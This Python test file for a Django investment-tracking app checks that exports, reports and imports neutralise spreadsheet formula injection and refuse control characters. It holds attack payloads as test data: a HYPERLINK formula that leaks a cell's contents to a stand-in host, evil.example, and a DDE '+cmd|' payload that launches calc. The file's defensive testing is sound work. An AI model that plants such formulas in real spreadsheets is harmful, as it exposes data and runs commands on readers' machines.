"""Hostile content from one park cannot break the city.

A park administrator types (or pastes, or imports) text meant to hurt the others: a formula that
runs in the commission's Excel, a control character that makes openpyxl refuse to write the
weekly report, a text of megabytes. The findings, each as a test; then every spreadsheet the
project writes, walked with hostile values stored in every free-text field; then every door
(API, web form and grid, Excel import) × every free-text field × the refused payloads."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.conf import settings

from api.export import ExportMixin
from api.urls import router
from common.spreadsheets import FORMULA_PREFIXES
from projects.imports import KINDS, run_import
from projects.models import InvestmentReport, Project
from reports.models import WeeklyReport
from scheduling.models import Milestone
from tests import factories
from tests.api.conftest import token_client
from tests.reports.conftest import WEEK, report_city, run_report  # noqa: F401 (fixtures)
from tests.web.helpers import form_data
from tests.web.test_edit import new_project_data

pytestmark = pytest.mark.django_db

# What an XLSX cell cannot hold (XML 1.0): openpyxl raises IllegalCharacterError on these.
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
ILLEGAL_CHARS = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]]
LONG_TEXT = 20000  # the API's limit of construction content, progress and problems
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"详见附件")'
CONTROL_ZH = "不能包含控制字符"
CONTROL_EN = "Control characters are not allowed"


def _stored_chars():
    # PostgreSQL text cannot hold U+0000 at all, so it can never be stored there.
    return [c for c in ILLEGAL_CHARS if c != "\x00" or not settings.IS_POSTGRES]


def assert_safe_value(value, where: str) -> None:
    if not isinstance(value, str) or NUMBER.fullmatch(value):
        return  # a number (a CSV cell is text: "-215" days)
    assert not value.startswith(FORMULA_PREFIXES), (where, value[:80])
    assert not ILLEGAL.search(value), (where, value[:80])


def xlsx_cells(content: bytes) -> list[str]:
    """Every text cell of every sheet (formulas are read as their text, "=…")."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell
        for ws in wb.worksheets
        for row in ws.iter_rows(values_only=True)
        for cell in (*row, ws.title)
        if isinstance(cell, str)
    ]


def assert_safe_xlsx(content: bytes, where: str) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        assert_safe_value(ws.title, f"{where}: sheet title")
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, ws.title, cell.coordinate, cell.value)
                assert_safe_value(cell.value, f"{where}: {ws.title}!{cell.coordinate}")
    return xlsx_cells(content)


def assert_safe_csv(content: bytes, where: str) -> list[str]:
    text = content.decode("utf-8").removeprefix("\ufeff")
    cells = [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]
    for value in cells:
        assert_safe_value(value, where)
    return cells


# --- The findings ------------------------------------------------------------------------------


def test_formula_in_problems_is_quoted_in_the_weekly_report(report_city, run_report):  # noqa: F811
    report = InvestmentReport.objects.get(project=report_city.senlang, period=dt.date(2026, 5, 1))
    report.problems = HYPERLINK
    report.save()
    run_report("--week", WEEK)
    wb = openpyxl.load_workbook(io.BytesIO(WeeklyReport.objects.get(week=WEEK).xlsx.read()))
    for title in ("滞后明细", "滞后最长"):
        cells = [c for row in wb[title].iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], title
        assert "'" + HYPERLINK in [c.value for c in cells], title


def test_formula_in_a_project_name_is_quoted_in_the_reports_template(client, city, park_a_admin):
    factories.ProjectFactory(name=HYPERLINK, park=city.park_a, industry=city.bio)
    client.force_login(park_a_admin)
    response = client.get("/imports/template/reports.xlsx?period=2026-03")
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert ws["C2"].data_type != "f" and ws["C2"].value == "'" + HYPERLINK


def test_a_control_character_in_the_leader_is_refused_by_the_api(city, park_a_admin):
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio, leader="李主任")
    response = token_client(park_a_admin).patch(
        f"/api/v1/projects/{project.pk}/", {"leader": "L\u001bX"}, format="json"
    )
    assert response.status_code == 400
    assert CONTROL_ZH in response.json()["leader"][0] and "U+001B" in response.json()["leader"][0]
    project.refresh_from_db()
    assert project.leader == "李主任"


def test_a_stored_control_character_breaks_neither_the_weekly_report_nor_the_exports(
    report_city,  # noqa: F811
    run_report,  # noqa: F811
    commission_user,
    viewer_user,
    park_a_admin,
    park_b_admin,
):
    # Stored before the text rule existed (the doors refuse it now).
    Project.objects.filter(pk=report_city.senlang.pk).update(leader="L\u001bX")
    run_report("--week", WEEK)
    report = WeeklyReport.objects.get(week=WEEK)
    rows = list(openpyxl.load_workbook(io.BytesIO(report.xlsx.read()))["滞后明细"].iter_rows(values_only=True))
    assert "L\ufffdX" in [cell for row in rows for cell in row]
    assert report.pdf.read().startswith(b"%PDF")
    for user in (commission_user, viewer_user, park_a_admin, park_b_admin):
        for fmt in ("xlsx", "csv"):
            response = token_client(user).get(f"/api/v1/projects/?format={fmt}")
            assert response.status_code == 200, (user.username, fmt)
            cells = (assert_safe_xlsx if fmt == "xlsx" else assert_safe_csv)(response.content, fmt)
            if user.role == "commission":
                assert "L\ufffdX" in cells


def test_the_grid_refuses_a_progress_longer_than_the_api_limit(client, city, park_a_admin):
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio)
    client.force_login(park_a_admin)
    url = f"/monthly/?park={city.park_a.pk}&period=2026-03"
    data = form_data(client.get(url), "grid-form")
    data.update({f"p{project.pk}-amount": "10", f"p{project.pk}-progress": "进" * (2 * 1024 * 1024)})
    response = client.post(url, data)
    assert response.status_code == 200
    assert "20000" in page_errors(response)
    assert not InvestmentReport.objects.exists()


# --- Every spreadsheet, with hostile values stored in every free-text field ---------------------

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def hostile(label: str, n: int) -> str:
    """A formula prefix and an illegal control character, different ones for each field."""
    chars = _stored_chars()
    return f"{PREFIXES[n % len(PREFIXES)]}{label}{chars[n % len(chars)]}1"


@pytest.fixture
def hostile_city(report_city):  # noqa: F811
    """The weekly report's city with hostile values written past the doors (as rows stored
    before the text rule would be), so every writer meets them."""
    n = iter(range(1000))
    values: dict[str, str] = {}

    def put(queryset, **fields):
        data = {name: hostile(label, next(n)) for name, label in fields.items()}
        values.update(dict(zip(fields.values(), data.values(), strict=True)))
        queryset.update(**data)

    senlang = report_city.senlang
    put(
        Project.objects.filter(pk=senlang.pk),
        name="name",
        owner="owner",
        phase="phase",
        leader="leader",
        contact_person="person",
        contact_phone="phone",
    )
    Project.objects.filter(pk=senlang.pk).update(construction_content="=长" + "长" * LONG_TEXT + "\x07")
    put(Milestone.objects.filter(pk=report_city.m_start.pk), name="milestone")
    Milestone.objects.filter(pk=report_city.m_start.pk).update(kind="other")
    put(InvestmentReport.objects.filter(project=senlang, period=dt.date(2026, 5, 1)), progress="progress")
    put(InvestmentReport.objects.filter(project=senlang, period=dt.date(2026, 5, 1)), problems="problems")
    put(type(senlang.park).objects.filter(pk=senlang.park_id), name="park")
    put(type(senlang.industry).objects.filter(pk=senlang.industry_id), name="industry")
    put(type(senlang.park.region).objects.filter(pk=senlang.park.region_id), name="region")
    for i, char in enumerate(_stored_chars()):  # every illegal character somewhere
        factories.ReportFactory(
            project=report_city.kangyu, period=dt.date(2020 + i // 12, 1 + i % 12, 1), problems=f"@{char}{i}"
        )
    report_city.values = values
    return report_city


def export_lists() -> list[str]:
    """Every list of the API router that exports (`ExportMixin`)."""
    return [prefix for prefix, viewset, _basename in router.registry if issubclass(viewset, ExportMixin)]


def test_every_api_list_exports_or_is_known_not_to():
    not_exporting = {prefix for prefix, _v, _b in router.registry} - set(export_lists())
    # weekly-reports: a list of files, not of rows; periods: the closed months (period, closed, who, when)
    assert not_exporting == {"weekly-reports", "periods"}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_every_api_export_is_safe(hostile_city, fmt):
    client = token_client(hostile_city.commission)
    seen: list[str] = []
    for prefix in export_lists():
        response = client.get(f"/api/v1/{prefix}/?format={fmt}")
        assert response.status_code == 200, (prefix, response.content[:300])
        seen += (assert_safe_xlsx if fmt == "xlsx" else assert_safe_csv)(response.content, prefix)
    text = "\n".join(seen)
    for label in ("name", "owner", "leader", "milestone", "progress", "problems", "park", "industry", "region"):
        assert label in text, label  # the hostile values were exported (neutralised), not dropped
    name = hostile_city.values["name"]
    assert "'" + ILLEGAL.sub("\ufffd", name) in seen  # quoted, the illegal character replaced


def test_the_web_list_export_is_safe(client, hostile_city):
    client.force_login(hostile_city.commission)
    response = client.get("/projects/?export=xlsx")
    assert response.status_code == 200
    cells = assert_safe_xlsx(b"".join(response.streaming_content), "web export")
    assert any("name" in c for c in cells) and any("park" in c for c in cells)


@pytest.mark.parametrize("kind", list(KINDS))
def test_the_import_templates_are_safe(client, hostile_city, kind):
    client.force_login(hostile_city.admin_a)
    response = client.get(f"/imports/template/{kind}.xlsx?period=2026-05")
    assert response.status_code == 200
    cells = assert_safe_xlsx(response.content, kind)
    if kind == "reports":
        assert any("name" in c for c in cells)


def test_the_weekly_report_completes_and_is_safe(hostile_city, run_report):  # noqa: F811
    from django.core import mail

    run_report("--week", WEEK)
    report = WeeklyReport.objects.get(week=WEEK)
    cells = assert_safe_xlsx(report.xlsx.read(), "weekly report")
    for label in ("name", "leader", "milestone", "progress", "problems", "park", "industry"):
        assert any(label in c for c in cells), label
    assert report.pdf.read().startswith(b"%PDF")
    assert mail.outbox  # the report was mailed
    sections = list(report.sections.all())
    assert sections
    for section in sections:
        assert_safe_xlsx(section.xlsx.read(), f"section {section.park_id}")
        assert section.pdf.read().startswith(b"%PDF")


def test_the_reminders_complete_with_hostile_names(hostile_city, django_capture_on_commit_callbacks):
    """催报 after the payloads are stored: the missing project's hostile name and the returned
    report's reason go into the mails, and every park's list is still sent."""
    from django.core import mail

    from reports.models import ReportReminder
    from reports.reminders import remind_missing_reports

    may = dt.date(2026, 5, 1)
    InvestmentReport.objects.filter(project=hostile_city.senlang, period=may).update(
        status="returned", return_reason=hostile("reason", 7)
    )
    InvestmentReport.objects.filter(project=hostile_city.jingao, period=may).delete()
    with django_capture_on_commit_callbacks(execute=True):
        outcome = remind_missing_reports(as_of=dt.date(2026, 6, 5))  # the due day of May
    assert outcome.step == 0 and outcome.created >= 2
    assert outcome.sent == ReportReminder.objects.filter(status="sent").count() == outcome.created
    bodies = "\n".join(m.body for m in mail.outbox)
    assert hostile_city.values["name"] in bodies  # 森朗's hostile name, listed as returned
    assert "晶澳太阳能二期" in bodies


# --- Every door refuses control characters and over-long text ---------------------------------

PROJECT_FIELDS = {
    "name": 200,
    "owner": 200,
    "phase": 50,
    "leader": 100,
    "contact_person": 50,
    "contact_phone": 30,
    "construction_content": LONG_TEXT,
}
MULTILINE = {"construction_content", "progress", "problems"}
CONTROLS = ["\u001b", "\u0007", "\u007f", "\u0085"]


def refused_payloads(field: str, limit: int) -> list[tuple[str, str]]:
    """(payload, what the message must say) for a field."""
    out = [(f"甲{c}乙", CONTROL_ZH) for c in CONTROLS]
    if field not in MULTILINE:
        out.append(("甲\n乙", CONTROL_ZH))
    out.append(("长" * (limit + 1), str(limit)))
    return out


def cases(fields: dict[str, int]):
    return [
        pytest.param(f, payload, message, id=f"{f}-{i}")
        for f, limit in fields.items()
        for i, (payload, message) in enumerate(refused_payloads(f, limit))
    ]


def messages_of(response) -> str:
    return str(response.json())


def page_errors(response) -> str:
    """The error lists of a page (next to the fields)."""
    html = response.content.decode()
    return " ".join(re.findall(r'<ul class="field-errors">(.*?)</ul>', html, flags=re.S))


API_PROJECT = {
    "name": "康誉医疗介入耗材产业园",
    "owner": "康誉医疗器械有限公司",
    "park": "GXQ",
    "industry": "BIO",
    "level": "provincial",
    "year": 2026,
    "total_investment": "100.00",
}


@pytest.mark.parametrize(("field", "payload", "message"), cases(PROJECT_FIELDS))
def test_api_project_create_and_patch_refuse(city, park_a_admin, field, payload, message):
    client = token_client(park_a_admin)
    created = client.post("/api/v1/projects/", {**API_PROJECT, field: payload}, format="json")
    assert created.status_code == 400 and message in str(created.json().get(field)), created.json()
    assert not Project.objects.exists()
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio)
    before = getattr(project, field)
    patched = client.patch(f"/api/v1/projects/{project.pk}/", {field: payload}, format="json")
    assert patched.status_code == 400 and message in str(patched.json().get(field)), patched.json()
    project.refresh_from_db()
    assert getattr(project, field) == before


@pytest.mark.parametrize(("field", "payload", "message"), cases({"progress": LONG_TEXT, "problems": LONG_TEXT}))
def test_api_reports_refuse(city, park_a_admin, field, payload, message):
    client = token_client(park_a_admin)
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio)
    body = {"project": project.pk, "period": "2026-02", "amount": "1.00", field: payload}
    created = client.post("/api/v1/investment-reports/", body, format="json")
    assert created.status_code == 400 and message in str(created.json().get(field)), created.json()
    bulk_row = {"project": project.pk, "amount": "1.00", field: payload}
    bulk = client.post("/api/v1/investment-reports/bulk/", {"period": "2026-02", "rows": [bulk_row]}, format="json")
    assert bulk.status_code == 400 and message in messages_of(bulk), bulk.json()
    assert not InvestmentReport.objects.exists()
    report = factories.ReportFactory(project=project, period=dt.date(2026, 3, 1), progress="原值", problems="原值")
    patched = client.patch(f"/api/v1/investment-reports/{report.pk}/", {field: payload}, format="json")
    assert patched.status_code == 400 and message in str(patched.json().get(field)), patched.json()
    report.refresh_from_db()
    assert getattr(report, field) == "原值"


@pytest.mark.parametrize(("field", "payload", "message"), cases({"name": 100}))
def test_api_milestone_park_and_industry_names_refuse(city, park_a_admin, commission_user, field, payload, message):
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio)
    body = {"project": project.pk, "kind": "other", "name": payload, "planned_date": "2026-06-01"}
    response = token_client(park_a_admin).post("/api/v1/milestones/", body, format="json")
    assert response.status_code == 400 and message in str(response.json().get("name")), response.json()
    assert not Milestone.objects.exists()
    commission = token_client(commission_user)
    for url in ("/api/v1/parks/", "/api/v1/industries/"):
        response = commission.post(url, {"code": "NEW", "name": payload, "region": "130110"}, format="json")
        assert response.status_code == 400 and message in str(response.json().get("name")), (url, response.json())
    assert not type(city.park_a).objects.filter(code="NEW").exists()
    assert not type(city.bio).objects.filter(code="NEW").exists()


def test_the_api_message_is_english_when_asked(city, park_a_admin):
    response = token_client(park_a_admin).post(
        "/api/v1/projects/", {**API_PROJECT, "leader": "L\u001bX"}, format="json", HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 400 and CONTROL_EN in response.json()["leader"][0]


WEB_CASES = cases(PROJECT_FIELDS) + [
    pytest.param("ms-0-name", p, m, id=f"milestone-{i}") for i, (p, m) in enumerate(refused_payloads("name", 100))
]


@pytest.mark.parametrize(("field", "payload", "message"), WEB_CASES)
def test_web_project_form_refuses(client, city, park_a_admin, field, payload, message):
    client.force_login(park_a_admin)
    extra = {"ms-0-kind": "other", "ms-0-planned_date": "2026-06-01"} if field.startswith("ms-") else {}
    response = client.post("/projects/new/", new_project_data(client, city, **extra, **{field: payload}))
    assert response.status_code == 200
    assert message in page_errors(response)
    assert not Project.objects.exists() and not Milestone.objects.exists()


@pytest.mark.parametrize(("field", "payload", "message"), cases({"name": 200, "leader": 100}))
def test_web_project_edit_refuses(client, city, park_a_admin, field, payload, message):
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio, leader="李主任")
    client.force_login(park_a_admin)
    data = form_data(client.get(f"/projects/{project.pk}/edit/"), "project-form")
    data[field] = payload
    response = client.post(f"/projects/{project.pk}/edit/", data)
    assert response.status_code == 200 and message in page_errors(response)
    project.refresh_from_db()
    assert (project.name, project.leader) == (Project.objects.get().name, "李主任")
    assert getattr(project, field) != payload


@pytest.mark.parametrize(("field", "payload", "message"), cases({"progress": LONG_TEXT, "problems": LONG_TEXT}))
def test_web_grid_refuses(client, city, park_a_admin, field, payload, message):
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio)
    client.force_login(park_a_admin)
    url = f"/monthly/?park={city.park_a.pk}&period=2026-03"
    data = form_data(client.get(url), "grid-form")
    data.update({f"p{project.pk}-amount": "10", f"p{project.pk}-{field}": payload})
    response = client.post(url, data)
    assert response.status_code == 200 and message in page_errors(response)
    assert not InvestmentReport.objects.exists()


def _workbook(tmp_path, kind: str, header_keys: list[str], row: list):
    wb = openpyxl.Workbook()
    headers = {c.key: str(c.header) for c in KINDS[kind]}
    wb.active.append([headers[k] for k in header_keys])
    wb.active.append(row)
    path = tmp_path / f"{kind}.xlsx"
    wb.save(path)
    return path


# openpyxl cannot write the C0 characters (XML forbids them), so a forged file carries DEL, C1
# and line breaks.
IMPORT_PAYLOADS = [("甲\u007f乙", CONTROL_ZH), ("甲\u0085乙", CONTROL_ZH)]
IMPORT_PROJECT_FIELDS = {"name": 200, "owner": 200, "leader": 100, "construction_content": LONG_TEXT}


def import_cases(fields):
    out = []
    for f, limit in fields.items():
        payloads = [*IMPORT_PAYLOADS, ("长" * (limit + 1), str(limit))]
        if f not in MULTILINE:
            payloads.append(("甲\n乙", CONTROL_ZH))
        out += [pytest.param(f, p, m, id=f"{f}-{i}") for i, (p, m) in enumerate(payloads)]
    return out


@pytest.mark.parametrize(("field", "payload", "message"), import_cases(IMPORT_PROJECT_FIELDS))
def test_excel_import_of_projects_refuses(tmp_path, city, park_a_admin, field, payload, message):
    keys = ["name", "owner", "park", "industry", "level", "year", "total_investment", "leader", "construction_content"]
    values = {"name": "导入项目", "owner": "某公司", "park": "GXQ", "industry": "BIO", "level": "市重点"}
    values |= {"year": 2026, "total_investment": "100", "leader": "张三", "construction_content": "厂房"}
    values[field] = payload
    path = _workbook(tmp_path, "projects", keys, [values[k] for k in keys])
    result = run_import(user=park_a_admin, kind="projects", path=path, commit=True)
    assert not result.committed and any(message in e.message for e in result.errors), result.errors
    assert not Project.objects.exists()


@pytest.mark.parametrize(("field", "payload", "message"), import_cases({"progress": LONG_TEXT, "problems": LONG_TEXT}))
def test_excel_import_of_reports_refuses(tmp_path, city, park_a_admin, field, payload, message):
    project = factories.ProjectFactory(park=city.park_a, industry=city.bio)
    keys = ["project_id", "period", "amount", "progress", "problems"]
    values = {"project_id": project.pk, "period": "2026-03", "amount": "10", "progress": "", "problems": ""}
    values[field] = payload
    path = _workbook(tmp_path, "reports", keys, [values[k] for k in keys])
    result = run_import(user=park_a_admin, kind="reports", path=path, commit=True)
    assert not result.committed and any(message in e.message for e in result.errors), result.errors
    assert not InvestmentReport.objects.exists()


# --- Formula prefixes are accepted text: stored as typed, neutralised in every file ---------------


def test_formulas_are_accepted_and_the_files_still_complete(
    city,
    park_a_admin,
    commission_user,
    run_report,  # noqa: F811
):
    client = token_client(park_a_admin)
    body = {**API_PROJECT, "name": HYPERLINK, "owner": "+cmd|' /C calc'!A0", "leader": "@SUM(1)"}
    body["construction_content"] = "-1+1\n\t=2"
    created = client.post("/api/v1/projects/", body, format="json")
    assert created.status_code == 201, created.json()
    project = Project.objects.get()
    assert (project.name, project.leader, project.construction_content) == (HYPERLINK, "@SUM(1)", "-1+1\n\t=2")
    report = {"project": project.pk, "period": "2026-05", "amount": "1.00", "progress": "=1", "problems": "\t=2\r\n"}
    assert client.post("/api/v1/investment-reports/", report, format="json").status_code == 201
    milestone = {"project": project.pk, "kind": "other", "name": "=节点", "planned_date": "2026-01-05"}
    assert client.post("/api/v1/milestones/", milestone, format="json").status_code == 201
    commission = token_client(commission_user)
    for prefix in export_lists():
        for fmt in ("xlsx", "csv"):
            response = commission.get(f"/api/v1/{prefix}/?format={fmt}")
            assert response.status_code == 200, (prefix, fmt)
            (assert_safe_xlsx if fmt == "xlsx" else assert_safe_csv)(response.content, prefix)
    run_report("--week", "2026-W24")
    weekly = WeeklyReport.objects.get(week="2026-W24")
    cells = assert_safe_xlsx(weekly.xlsx.read(), "weekly")
    assert "'" + HYPERLINK in cells and "'=节点" in cells
    assert weekly.pdf.read().startswith(b"%PDF")
